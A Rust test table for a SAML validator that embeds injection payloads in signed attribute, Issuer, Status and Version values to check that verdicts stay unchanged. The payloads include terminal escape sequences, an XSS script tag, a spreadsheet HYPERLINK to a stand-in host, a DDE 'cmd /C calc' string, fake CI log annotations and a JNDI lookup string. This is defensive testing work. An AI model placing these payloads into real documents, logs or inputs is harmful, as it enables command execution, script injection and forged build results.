//! Values that are commands to whatever shows them: terminals, pages, spreadsheets, build logs.
//!
//! The identity provider signs them into an attribute; the verdict must not change. How each format escapes them is tested
//! with the formats. In the values that are compared, they are simply another value.

use super::forge::{by_idp, genuine};
use super::subject::Subject;
use super::{Attack, Class, Table};
use crate::support::xml::escape_text;

const WHOLE: &str = "saml/reader.rs value";

/// An attribute with this value more, signed by the identity provider.
fn shown(s: &Subject, value: &str) -> Option<Vec<u8>> {
    let statement = format!(
        "<a:AttributeStatement xmlns:a=\"urn:oasis:names:tc:SAML:2.0:assertion\">\
         <a:Attribute Name=\"mallory\"><a:AttributeValue>{}</a:AttributeValue></a:Attribute>\
         </a:AttributeStatement>",
        escape_text(value)
    );
    genuine(s, &s.edit().after(s.part("AuthnStatement")?, &statement).text())
}

/// The value as the Issuer: shown as what was found.
fn issuer(s: &Subject, value: &str) -> Option<Vec<u8>> {
    genuine(s, &s.edit().content(s.part("Issuer")?, &escape_text(value)).text())
}

pub(super) const TABLE: Table = Table {
    class: Class::Injection,
    attacks: &[
        Attack::harmless("c1-control-sequence", &[], WHOLE, |s| shown(s, "\u{9B}2J\u{9B}H"))
            .judged(by_idp),
        Attack::rejected("escape-character", &["input-not-xml"], "xml/parse.rs run", |s| {
            s.edit().last_in(s.part("AttributeValue").or(s.identity())?, "\u{1B}[2J").done()
        }),
        Attack::rejected(
            "escape-character-by-reference",
            &["input-not-xml"],
            "xml/parse.rs reference",
            |s| s.edit().last_in(s.part("AttributeValue").or(s.identity())?, "&#27;[2J").done(),
        ),
        Attack::harmless("carriage-return", &[], WHOLE, |s| shown(s, "a\rAccepted\r\n"))
            .judged(by_idp),
        Attack::harmless("direction-override", &[], WHOLE, |s| shown(s, "\u{202E}detpeccA"))
            .judged(by_idp),
        Attack::harmless("line-separator", &[], WHOLE, |s| shown(s, "a\u{2028}Accepted"))
            .judged(by_idp),
        Attack::harmless("script-element", &[], WHOLE, |s| {
            shown(s, "\"><script>alert(1)</script><!--")
        })
        .judged(by_idp),
        Attack::harmless("spreadsheet-formula", &[], WHOLE, |s| {
            shown(s, "=HYPERLINK(\"http://mallory.example\",\"a\")")
        })
        .judged(by_idp),
        Attack::harmless("spreadsheet-command", &[], WHOLE, |s| {
            shown(s, "@SUM(1)|cmd|'/C calc'!A0")
        })
        .judged(by_idp),
        Attack::harmless("build-log-annotation", &[], WHOLE, |s| {
            shown(s, "\n::error file=a,line=1::Accepted\n##vso[task.complete result=Succeeded;]")
        })
        .judged(by_idp),
        Attack::harmless("json-and-cdata-ends", &[], WHOLE, |s| {
            shown(s, "\",\"verdict\":\"accepted\",\"a\":\"\\u0000]]>")
        })
        .judged(by_idp),
        Attack::harmless("format-string", &[], WHOLE, |s| shown(s, "%s%n{}{0}${jndi:ldap://m}"))
            .judged(by_idp),
        Attack::rejected(
            "injection-in-the-issuer",
            &["issuer-mismatch"],
            "checks/issuer.rs compare",
            |s| issuer(s, "https://idp\u{9B}2J\n1. Validating the Status\n  Ok"),
        )
        .judged(by_idp),
        Attack::rejected(
            "injection-in-the-status",
            &["status-not-success"],
            "checks/status.rs run",
            |s| {
                let code = s.of_protocol("StatusCode")?;
                let markup = "Value=\"&#10;  Ok&#10;Accepted\"";
                genuine(s, &s.edit().attribute(code, "Value", markup).text())
            },
        )
        .judged(by_idp),
        Attack::rejected(
            "injection-in-the-version",
            &["format-version"],
            "saml/reader.rs identity",
            |s| {
                let markup = "Version=\"2.0&#13;&#10;::notice::Accepted\"";
                genuine(s, &s.edit().attribute(s.assertion()?, "Version", markup).text())
            },
        )
        .judged(by_idp),
    ],
};
